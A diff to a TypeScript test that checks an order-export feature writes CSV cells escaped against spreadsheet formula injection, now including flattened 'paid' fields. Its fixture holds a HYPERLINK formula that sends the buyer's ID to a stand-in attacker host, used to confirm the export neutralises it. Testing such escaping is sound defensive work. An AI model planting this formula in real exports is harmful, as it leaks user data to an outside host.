@@ -66,17 +66,24 @@ it('writes CSV of which spreadsheets run nothing', async () => {
   const number = `=HYPERLINK("https://evil.test/?${buyerId}","a, b")`
   const [id] = await placeOrders(buyerId, 1, number)
   const custom = JSON.stringify({ note: '-1' })
-  await query('UPDATE orders SET custom = ? WHERE id = ?', custom, `${id}`)
+  const paid = { grossCents: 1800, taxCents: 300, discountCents: 200, currency: 'EUR' }
+  const payment = JSON.stringify({ ...paid, invoiceNumber: '-1' })
+  const sql = 'UPDATE orders SET custom = ?, paid = ? WHERE id = ?'
+  await query(sql, custom, payment, `${id}`)
   await exportOrders('orders.csv', '--csv')
   const [names = '', ...rows] = (await readFile('orders.csv', 'utf8')).split('\r\n')
   const [order] = (await client.listOrders({ buyerUserId: buyerId, fields: 'summary' })).orders
-  expect(names.split(',').sort()).toEqual(Object.keys(order ?? {}).sort())
-  const cells = {
-    ...order,
+  const { paid: _, ...others } = order ?? {}
+  const paidNames = Object.keys({ ...paid, invoiceNumber: '' }).map((name) => `paid.${name}`)
+  expect(names.split(',').sort()).toEqual([...Object.keys(others), ...paidNames].sort())
+  const cells: Record<string, unknown> = {
+    ...others,
+    ...{ 'paid.grossCents': 1800, 'paid.taxCents': 300, 'paid.discountCents': 200 },
+    ...{ 'paid.currency': 'EUR', 'paid.invoiceNumber': "'-1" },
     providerId: `"'${number.replaceAll('"', '""')}"`,
     custom: '"{""note"":""-1""}"',
   }
-  const line = names.split(',').map((name) => cells[name as keyof OrderSummary] ?? '')
+  const line = names.split(',').map((name) => cells[name] ?? '')
   expect(rows).toContain(line.join())
   expect(order).toMatchObject({ priceCents: 1000, totalPriceCents: 2000 })
 })
